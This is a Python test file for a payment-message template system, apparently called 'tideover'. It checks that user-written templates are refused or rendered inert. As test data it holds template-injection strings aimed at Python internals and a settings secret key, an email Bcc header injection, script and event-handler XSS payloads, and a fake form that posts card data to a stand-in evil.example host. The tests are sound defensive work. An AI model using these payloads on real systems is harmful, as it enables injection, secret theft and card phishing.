"""Hostile texts: nothing loops, loads, escapes or grows without end, and each is refused in words that help."""

from __future__ import annotations

from dataclasses import replace
from html.parser import HTMLParser

import pytest

from tideover.core.catalogue import Channel, Template
from tideover.messages.channels import compose
from tideover.messages.examples import EXAMPLE
from tideover.messages.languages import BadText, spoken_in
from tideover.messages.own.checks import found, stopping
from tideover.messages.own.content import BadContent, Block, Content, Kind, checked
from tideover.messages.own.sandbox import MOST_LETTERS, filled
from tideover.messages.own.saying import Own

EN = spoken_in("en")
AR = spoken_in("ar")
BUTTON = Block(Kind.BUTTON, "Pay")
# What is refused, and a word of the reason.
REFUSED = {
    "a loop": ("{% for a in (1..1000000000) %}x{% endfor %}", "There is no {% for %}"),
    "a loop over letters": ("{% for a in name %}{{ a }}{% endfor %}", "There is no {% for %}"),
    "a table": ("{% tablerow a in (1..999) %}{{ a }}{% endtablerow %}", "There is no {% tablerow %}"),
    "a counter": ("{% increment a %}", "There is no {% increment %}"),
    "a cycle": ("{% cycle 'a', 'b' %}", "There is no {% cycle %}"),
    "what grows": ("{% assign a = 'xx' %}{% assign a = a | append: a %}", "There is no {% assign %}"),
    "what is kept": ("{% capture a %}x{% endcapture %}", "There is no {% capture %}"),
    "a file": ("{% include '../../config' %}", "There is no {% include %}"),
    "a file of ours": ("{% render '_page' %}", "There is no {% render %}"),
    "code in a tag": ("{% liquid\nassign a = 1\necho a %}", "There is no {% liquid %}"),
    "an echo": ("{% echo name %}", "There is no {% echo %}"),
    "a filter that grows": ("{{ name | append: name | append: name }}", "There is no filter 'append'"),
    "a filter that escapes nothing": ("{{ name | safe }}", "There is no filter 'safe'"),
    "a filter that hides": ("{{ 'PHNjcmlwdD4=' | base64_decode }}", "There is no filter 'base64_decode'"),
    "a filter that splits": ("{{ name | split: '' | join: '://' }}", "There is no filter"),
    "an attribute": ("{{ name.__class__.__mro__ }}", "There is no field 'name.__class__.__mro__'"),
    "an attribute in brackets": ("{{ name['__class__'] }}", "There is no field"),
    "a size": ("{{ name.size }}", "There is no field 'name.size'"),
    "a letter": ("{{ name[0] }}", "There is no field"),
    "the settings": ("{{ settings.SECRET_KEY }}", "There is no field 'settings.SECRET_KEY'"),
    "a field that was misspelt": ("{{ ammount }}", "Is it 'amount'?"),
    "a condition on what is not": ("{% if is_admin %}x{% endif %}", "There is no field 'is_admin'"),
    "what is not closed": ("{% if name %}x", "endif"),
    "braces that are not closed": ("Hello {{ name", "This cannot be filled in"),
    "braces as words": ("Hello {% raw %}{{ name }}{% endraw %}", "Braces"),
    "conditions in conditions": ("{% if name %}" * 150 + "{% endif %}" * 150, "nesting"),
    "brackets in brackets": ("{{ " + "a[" * 1300 + "1" + "]" * 1300 + " }}", "cannot be filled in"),
    "a filter of a word": ("{{ 'a' | plural }}", "cannot be filled in"),
    "a link of their own": ("Pay at https://evil.example", "addresses come from fields"),
    "a link without its scheme": ("Pay at www.evil.example", "addresses come from fields"),
    "blame": ("You failed to pay {{ amount }}.", "blames the reader"),
    "what a bank says in confidence": ("Your card was reported stolen.", "says why a bank really declines"),
}  # fmt: skip
# Characters that are refused before anything is looked at.
ODD = {
    "a line end in a header": "\x0b",
    "a null": "\x00",
    "a bell": "\x07",
    "an escape": "\x1b",
    "a separator of lines": "\u2028",
    "an override": "\u202e",
    "an isolate": "\u2066",
    "a joiner of words": "\u2060",
    "a byte order mark": "\ufeff",
    "a tag": "\U000e0041",
    "a private letter": "\ue000",
}


def text(words: str, subject: str = "Your payment") -> Content:
    return Content((Block(Kind.TEXT, words), BUTTON), subject, "It did not go through.", "Your payment")


def sent(content: Content, **values: object):
    return compose(replace(EXAMPLE, own=Own(1, content), **values))


@pytest.mark.parametrize("which", sorted(REFUSED))
def test_what_would_harm_is_refused_with_its_reason(which):
    words, reason = REFUSED[which]
    problems = stopping(found(checked(text(words), Channel.EMAIL), EN, Channel.EMAIL, Template.FAILED))
    assert {problem.where for problem in problems} == {"block 1"}
    assert reason in " ".join(problem.says for problem in problems)


@pytest.mark.parametrize("which", sorted(ODD))
@pytest.mark.parametrize("place", ["subject", "block"])
def test_a_character_that_nobody_sees_is_refused(which, place):
    words = f"Pay{ODD[which]}ment"
    with pytest.raises(BadContent, match="A character that is not seen"):
        checked(text("Hello", words) if place == "subject" else text(words), Channel.EMAIL)


@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
def test_a_subject_is_one_line_whatever_was_typed(end):
    content = checked(text("Hello", f"Your payment{end}Bcc: mallory@evil.example"), Channel.EMAIL)
    assert content.subject == "Your payment Bcc: mallory@evil.example"
    assert len(sent(content).subject.splitlines()) == 1


@pytest.mark.parametrize(
    "words",
    [
        "</td></tr></table><form action=//evil.example><input name=card></form>",
        "<!-- {{ name }}",
        "<a href=javascript:alert(1)>pay</a>",
        "<img src=x onerror=alert(1)>",
        "<script>alert(1)</script>",
        "<style>body{display:none}</style>",
        "]]><![CDATA[<b>",
    ],
)
def test_markup_is_read_as_words_and_the_mail_stays_whole(words):
    content = checked(Content((Block(Kind.TEXT, words), Block(Kind.BUTTON, words)), words, words, words), Channel.EMAIL)
    assert shape(sent(content).html) == shape(sent(text("Hello")).html)
    assert "<script" not in sent(content).html
    assert "javascript:alert(1)>" not in sent(content).html


def test_a_customers_name_cannot_bring_fields_or_markup():
    mail = sent(text("Hello {{ name }}"), customer_name="{{ amount }}{% if name %}<b>x</b>")
    assert "{{ amount }}{% if name %}" in mail.text
    assert "<b>x</b>" not in mail.html


def test_the_longest_text_stays_within_its_limits():
    words = "{{ name }}" * 390
    content = checked(Content((*[Block(Kind.TEXT, words)] * 29, BUTTON), "S", "P", "H"), Channel.EMAIL)
    assert "blocks" in {each.where for each in found(content, EN, Channel.EMAIL, Template.FAILED) if each.stops}
    with pytest.raises(BadText):
        filled("x" * (MOST_LETTERS + 1), EN, {})


def test_a_text_that_was_taken_and_cannot_be_filled_in_any_more_goes_out_in_our_words():
    mail = sent(text("Hello {{ gone }}"))
    assert mail.version == 0
    assert mail.subject == compose(EXAMPLE).subject


def test_what_is_read_from_the_right_keeps_foreign_words_apart():
    assert filled("{{ name }}", AR, {"name": "Jane"}) == "\u2068Jane\u2069"


def test_the_way_out_and_the_address_are_in_every_mail_whatever_its_blocks_are():
    for kind in Kind:
        mail = sent(Content((Block(kind, "Pay"),), "S", "P", "H"))
        assert EXAMPLE.unsubscribe_url in mail.html
        assert EXAMPLE.unsubscribe_url in mail.text
        assert EXAMPLE.postal_address in mail.html


class Shape(HTMLParser):
    """The elements of a page without its words."""

    def __init__(self) -> None:
        super().__init__()
        self.seen: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.seen.append(f"{tag} {sorted(name for name, _ in attrs)}")

    def handle_endtag(self, tag):
        self.seen.append(f"/{tag}")


def shape(html: str) -> list[str]:
    parser = Shape()
    parser.feed(html)
    return parser.seen
